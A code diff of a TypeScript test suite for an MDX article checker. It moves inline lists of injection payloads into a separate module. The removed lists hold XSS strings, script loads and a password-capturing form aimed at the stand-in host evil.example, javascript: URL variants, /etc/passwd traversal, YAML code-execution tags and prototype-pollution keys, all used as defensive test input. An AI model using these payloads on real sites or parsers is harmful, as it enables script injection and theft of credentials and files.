@@ -7,6 +7,7 @@ import { readTree } from '@/tools/check/read-tree'
 import { temporaryFolder } from '../support/temporary-folder'
 import { cachedEntries } from './cached-entries'
 import { toTree, validFiles } from './fixture'
+import { addresses, code, fields, html } from './injections'
 
 const files = validFiles()
 const article = 'articles/smart-shelves-retail-ai.mdx'
@@ -21,93 +22,13 @@ function faultsAfter(file: string, edit: (text: string) => string): string[] {
   const { problems } = checkTree(toTree({ ...files, [file]: text }), read)
   const own = problems.filter((problem) => problem.file === `content/${file}`)
   const lines = text.split('\n')
-  const misplaced = own.filter(({ line, column }) => {
-    const places = Array.from({ length: (lines[line - 1]?.length ?? -1) + 1 }, (_, index) => index + 1)
-    return !places.includes(column)
-  })
-  expect(misplaced).toEqual([])
+  for (const { line, column } of own) expect(column).toBeLessThanOrEqual((lines[line - 1] ?? '').length + 1)
   return own.map(({ line, column }) => `${line}:${column}`)
 }
 
 const withText = (file: string, injected: string): string[] => faultsAfter(file, (text) => `${text}\n${injected}\n`)
 /** The line on which text that is added to a document begins. */
 const lineAfter = (file: string): number => (files[file] ?? '').split('\n').length + 1
-
-/** Code and HTML that articles, which are MDX, would otherwise run or show. */
-const code = [
-  'import fs from "node:fs"',
-  'import "https://evil.example/x.mjs"',
-  'export const x = process.env',
-  'export default () => null',
-  'export * from "/etc/passwd"',
-  '{process.exit(1)}',
-  'Text {globalThis.process.env.HOME} text',
-  '{import("node:child_process")}',
-  '{(() => { throw new Error("x") })()}',
-  '{"".constructor.constructor("return process")()}',
-  '{/* comment */}',
-  '<Callout title={process.env.HOME}>\n\nText\n\n</Callout>',
-  '<Callout {...props} title="A">\n\nText\n\n</Callout>',
-  '<Callout title="A" onClick="alert(1)">\n\nText\n\n</Callout>',
-  '<Callout title="A" dangerouslySetInnerHTML="x">\n\nText\n\n</Callout>',
-  '<Callout title="A" ref="x">\n\nText\n\n</Callout>',
-  '<Callout.constructor title="A">\n\nText\n\n</Callout.constructor>',
-  '<constructor>\n\nText\n\n</constructor>',
-  '<__proto__ />',
-  '<svg:use href="#x" />',
-  '<Banner />',
-  '<>\n\nText\n\n</>',
-]
-
-/** HTML, which neither Markdown nor MDX may contain. */
-const html = [
-  '<script>alert(1)</script>',
-  '<script src="https://evil.example/x.js"></script>',
-  '<SCRIPT>alert(1)</SCRIPT>',
-  '<img src="x" onerror="alert(1)" />',
-  '<svg onload="alert(1)"></svg>',
-  '<svg><animate onbegin="alert(1)" /></svg>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="https://evil.example"></object>',
-  '<embed src="https://evil.example" />',
-  '<base href="https://evil.example/" />',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
-  '<link rel="stylesheet" href="https://evil.example/x.css" />',
-  '<style>body { display: none }</style>',
-  '<form action="https://evil.example"><input name="password" /></form>',
-  '<a href="javascript:alert(1)">text</a>',
-  '<div style="position: fixed; inset: 0">text</div>',
-  '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
-  '<details open ontoggle="alert(1)">x</details>',
-  '<template><script>alert(1)</script></template>',
-  '<x-custom>text</x-custom>',
-  '<!-- --><script>alert(1)</script>',
-]
-
-/** Addresses that links and pictures may not have. */
-const addresses = [
-  'javascript:alert(1)',
-  'JaVaScRiPt:alert(1)',
-  'javascript&#58;alert(1)',
-  'javascript&colon;alert(1)',
-  'java&#x0A;script:alert(1)',
-  '&#x6A;avascript:alert(1)',
-  'data:text/html,alert(1)',
-  'data:text/html;base64,PHNjcmlwdD4=',
-  'vbscript:msgbox(1)',
-  'file:///etc/passwd',
-  'blob:https://evil.example/x',
-  'view-source:https://evil.example',
-  'ftp://evil.example/x',
-  'http://evil.example',
-  '//evil.example',
-  '/\\evil.example',
-  '/../../etc/passwd',
-  '/%2e%2e/etc/passwd',
-  '\\\\evil.example',
-  'intent://scan/#Intent;scheme=zxing;end',
-]
 
 /** Fields of the site that hold an address, by the words that the address replaces. */
 const addressFields = [
@@ -117,31 +38,6 @@ const addressFields = [
   '/services }',
   '/about }',
   'https://www.northwind.example',
-]
-
-/** Fields that abuse what YAML and front matter can do, in place of an article's first field. */
-const fields = [
-  'title: !!js/function "function () { return process }"',
-  'title: !!js/undefined ""',
-  'title: !!python/object/apply:os.system ["id"]',
-  'title: !<tag:yaml.org,2002:js/eval> "process.env"',
-  'title: !include /etc/passwd',
-  'title: !!binary aGVsbG8=',
-  'title: &a Smart\npreview2: *a',
-  'a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\ntitle: Smart',
-  '<<: { draft: true }\ntitle: Smart',
-  '__proto__: { polluted: yes }\ntitle: Smart',
-  'constructor: { prototype: { polluted: yes } }\ntitle: Smart',
-  'toString: x\ntitle: Smart',
-  '? { a: b }\n: x\ntitle: Smart',
-  '%TAG ! tag:evil.example,2026:\ntitle: Smart',
-  'title: [<script>]',
-  'title: { text: x }',
-  'title: "Smart\\0Shelves"\nbody: x',
-  'body: "<script>alert(1)</script>"\ntitle: Smart',
-  '_raw: { flattenedPath: ../../etc/passwd }\ntitle: Smart',
-  'oldSlugs: [../../index]\ntitle: Smart',
-  'oldSlugs: [a/b]\ntitle: Smart',
 ]
 
 describe('an article', () => {
